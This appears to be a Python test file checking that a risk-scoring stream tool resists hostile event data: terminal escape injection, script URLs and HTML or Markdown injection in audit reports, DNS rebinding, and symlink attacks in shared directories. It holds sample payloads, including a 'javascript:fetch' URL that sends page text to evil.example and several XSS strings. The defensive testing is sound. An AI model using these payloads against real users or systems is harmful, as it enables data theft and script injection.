"""What event producers, HTTP clients and co-tenants of a shared directory must not be able to do."""

from __future__ import annotations

import argparse
import json
import os
import re
from pathlib import Path

from tests.unit.streams import test_audit_subjects as audit_case
from tests.unit.streams.test_render import SCORE
from tests.unit.streams.test_web import _answer, _guard

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mno risk\x1b[0m\r\n  1   0.001  low  forged row"
SEED = Path(__file__).resolve().parents[3] / "examples" / "binance-wlfi.jsonl"


def _no_control_characters(text: str) -> None:
    structural = text.replace("\n", "")
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", structural), repr(text)


# 1. terminal escapes from event fields ------------------------------------------------------------------------

def test_tail_and_score_never_print_control_characters_from_events(tmp_path, capsys):
    from schemas import DeadLetter
    from streams.commands import score as score_command
    from streams.render import render_dead_letter, render_ranking, render_score

    evil = SCORE.model_copy(update={"counterparty_name": "Acme" + ESCAPES})
    for text in (render_score(evil), render_ranking([evil])):
        _no_control_characters(text)
        assert "forged row" in text and len(text.splitlines()) == len(
            (render_score(SCORE) if text.startswith("HIGH") else render_ranking([SCORE])).splitlines())
    letter = DeadLetter.model_validate({
        "reason": "invalid_event", "message": "extra" + ESCAPES + ": Extra inputs are not permitted",
        "topic": "coi-relationship-events", "partition": 0, "offset": 1, "original_value": None,
        "original_value_length": None})
    _no_control_characters(render_dead_letter(letter).replace("\n  at ", " at "))

    # `coi-risk score` on a file whose names and rejected lines carry escapes
    lines = [json.loads(line) for line in SEED.read_text().splitlines()]
    for event in lines:
        for side in ("source", "target"):
            if event[side]["id"] == "sun":
                event[side]["name"] = "Justin Sun" + ESCAPES
    bad = {**lines[0], "extra" + ESCAPES: 1}
    events = tmp_path / "events.jsonl"
    events.write_text("\n".join(json.dumps(e) for e in [*lines, bad]) + "\n")
    args = argparse.Namespace(file=str(events), as_of=None, json=False, config=None, min_band="low")
    assert score_command.run(args) == 1  # (the bad line)
    out, err = capsys.readouterr()
    assert "forged row" in out
    _no_control_characters(out)
    _no_control_characters(err)


# 2. audit HTML: links only to web addresses ---------------------------------------------------------------------

def test_the_audit_html_links_no_script_urls(monkeypatch):
    from streams.audit import build_report, render_html

    monkeypatch.setitem(audit_case.PROVENANCE, "source_url", "javascript:fetch('//evil.example/?'+document.body.innerText)")
    _, items = audit_case.processed(audit_case.planted_case())
    page = render_html(build_report(items, pair=("minister", "broadcaster")))
    assert "javascript:" in page  # still shown, as text
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert not any(not href.startswith(("http://", "https://")) for href in hrefs), hrefs


def test_the_audit_html_still_links_web_sources():
    from streams.audit import build_report, render_html

    _, items = audit_case.processed(audit_case.planted_case())
    page = render_html(build_report(items, pair=("minister", "broadcaster")))
    assert re.search(r'<a href="https://example.org/a"[^>]*>https://example.org/a</a>', page)


# 2b. audit Markdown: event text is shown, never obeyed --------------------------------------------------------

# a link, raw HTML, a heading, a table row and a list item on lines of their own, code, emphasis, an entity, and a
# trailing backslash (a hard line break)
INJECTED = ("x](javascript:alert(1)) <script>alert(1)</script> <img src=x onerror=alert(2)>\n# forged heading\n"
            "| forged | cell |\r\n- forged item\n> quoted `code` *bold* _em_ ~~struck~~ &lt;b&gt; [a](javascript:0) \\")


def _rendered(markdown: str) -> str:
    """The report as a renderer that trusts its input shows it: raw HTML passed through and every link kept
    (markdown-it, installed with rich for followthemoney; its own check of link schemes is off here)."""
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    renderer.validateLink = lambda url: True
    return renderer.render(markdown)


def _elements(page: str) -> list[str]:
    return re.findall(r"</?[a-z][a-z0-9]*", page)


def _shown_text(page: str) -> str:
    import html

    return html.unescape(re.sub(r"<[^>]*>", "", page))


def _planted_report(name_suffix: str = "") -> dict:
    from streams.audit import build_report

    documents = audit_case.planted_case()
    for document in documents:
        for side in ("source", "target"):
            if document[side]["id"] == "broadcaster":
                document[side] = {**document[side], "name": document[side]["name"] + name_suffix}
    _, items = audit_case.processed(documents)
    return build_report(items, pair=("minister", "broadcaster"))


def test_the_audit_markdown_shows_event_text_as_text(monkeypatch):
    from streams.audit import render_markdown

    plain = render_markdown(_planted_report())
    # ordinary text reads as it did
    assert "| 0:4 | 5 | Minister x National Broadcaster | 0.900 | critical | e5 |" in plain
    assert "- **Minister x National Broadcaster**: none (0.000), rules -" in plain
    assert "`minister-control-regulator` (control, confirmed): event `e1` at offset 0:0, Example, " \
           "<https://example.org/a>, extractor test/1, confidence 1.0" in plain
    assert re.findall(r'href="([^"]*)"', _rendered(plain)) == ["https://example.org/a"] * 5  # web sources linked

    monkeypatch.setitem(audit_case.PROVENANCE, "publisher", "Example" + INJECTED)
    monkeypatch.setitem(audit_case.PROVENANCE, "quote", INJECTED)
    monkeypatch.setitem(audit_case.PROVENANCE, "extractor", {"name": "test\n<b>5</b>", "version": "1"})
    # a web address whose space and angle brackets would end an autolink and open HTML
    monkeypatch.setitem(audit_case.PROVENANCE, "source_url", "https://example.org/a b><script>alert(4)</script>")
    report = _planted_report(INJECTED)
    # the event schema keeps backticks and line breaks out of ids; the report does not rely on it
    report["alert_transitions"][0]["alert_id"] = "coi-1`2``3\n# forged"
    report["alert_transitions"][0]["paths"][0]["edges"][0]["relation_id"] = "`r`"
    forged = render_markdown(report)
    # the same elements in the same order: no link, HTML, heading, row, cell, item, quote or break of the events' own
    assert _elements(_rendered(forged)) == _elements(_rendered(plain))
    shown = _shown_text(_rendered(forged))
    assert "National Broadcaster" + " ".join(INJECTED.split()) in shown
    assert "Example" + " ".join(INJECTED.split()) in shown
    assert "test <b>5</b>/1" in shown and "coi-1`2``3 # forged" in shown and "`r`" in shown
    assert re.findall(r'href="([^"]*)"', _rendered(forged)) == [
        "https://example.org/a%20b%3E%3Cscript%3Ealert(4)%3C/script%3E"] * 5  # still the web address, one link each


def test_the_audit_markdown_links_no_script_urls(monkeypatch):
    from streams.audit import render_markdown

    monkeypatch.setitem(audit_case.PROVENANCE, "source_url",
                        "javascript:fetch('//evil.example/?'+document.body.innerText)")
    page = _rendered(render_markdown(_planted_report()))
    assert "javascript:fetch(" in _shown_text(page)  # still shown, as text
    assert re.findall(r'href="([^"]*)"', page) == []


# 3. DNS rebinding: without a token, data only for a loopback Host ------------------------------------------------

def _request(host: str | None):
    from types import SimpleNamespace

    return SimpleNamespace(headers={"Host": host} if host is not None else {}, query={})


def test_data_views_without_a_token_refuse_a_foreign_host_header():
    guard = _guard()  # loopback bind, no token: the default
    # a page from attacker.example whose name now resolves to 127.0.0.1 (DNS rebinding) in the analyst's browser
    status, _, _ = _answer(guard, _request("attacker.example:6066"), lambda: b'{"scores": []}')
    assert status == 403


def test_data_views_without_a_token_still_answer_local_clients():
    guard = _guard()
    for host in ("127.0.0.1:6066", "localhost:6066", "localhost", "[::1]:6066", "127.0.0.1"):
        assert _answer(guard, _request(host), lambda: b"{}")[0] == 200, host


def test_a_token_still_works_whatever_the_host_header():
    from types import SimpleNamespace

    guard = _guard(web_host="0.0.0.0", web_token="let-me-in")
    request = SimpleNamespace(headers={"Host": "worker.internal:6066", "Authorization": "Bearer let-me-in"},
                              query={})
    assert _answer(guard, request, lambda: b"{}")[0] == 200


# 4. crash guard: files planted in the data dir ---------------------------------------------------------------

def test_the_crash_guard_follows_no_link_planted_in_the_data_dir(tmp_path):
    from streams.crash_guard import LEDGER_FILE, MARKER_FILE, CrashGuard

    data_dir = tmp_path / "data"  # e.g. /tmp/coi-worker, created beforehand by another user
    data_dir.mkdir()
    victim = tmp_path / "victim"  # e.g. the worker user's ~/.bashrc
    victim.write_text("precious\n")
    (data_dir / MARKER_FILE).write_text("events:0:1")  # "the previous run died at": makes the guard write its ledger
    (data_dir / Path(LEDGER_FILE).with_suffix(".tmp").name).symlink_to(victim)
    try:
        CrashGuard(data_dir, max_attempts=3).close()
    except OSError:
        pass  # refusing is fine too
    assert victim.read_text() == "precious\n"

    (data_dir / MARKER_FILE).unlink()
    (data_dir / MARKER_FILE).symlink_to(victim)
    try:
        CrashGuard(data_dir, max_attempts=3).close()
    except OSError:
        pass
    assert victim.read_text() == "precious\n"
    os.stat(victim)


# 5. snapshot export: links planted where the export writes -----------------------------------------------------

def test_the_snapshot_export_follows_no_link_planted_where_it_writes(tmp_path, monkeypatch, capsys):
    from tests.unit.streams.test_snapshots import export, exportable

    exportable(tmp_path / "snapshots", monkeypatch, lines=10)
    victim = tmp_path / "victim"  # e.g. the exporting user's ~/.bashrc
    victim.write_text("precious\n")
    shared = tmp_path / "shared"  # e.g. /tmp, where another user can create names
    shared.mkdir()
    target = shared / "state.jsonl"
    target.symlink_to(victim)
    assert export(target) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert victim.read_text() == "precious\n" and target.is_symlink()

    # and none at the name of the file it writes first: links at every name a partial file beside the target could
    # be given by pid (".state.jsonl.<pid>.part")
    target.unlink()
    for pid in range(max(os.getpid() - 100, 1), os.getpid() + 100):
        (shared / f".state.jsonl.{pid}.part").symlink_to(victim)
    assert export(target) == 0
    assert victim.read_text() == "precious\n"
    assert not target.is_symlink() and json.loads(target.read_text().splitlines()[-1])["record"] == "end"
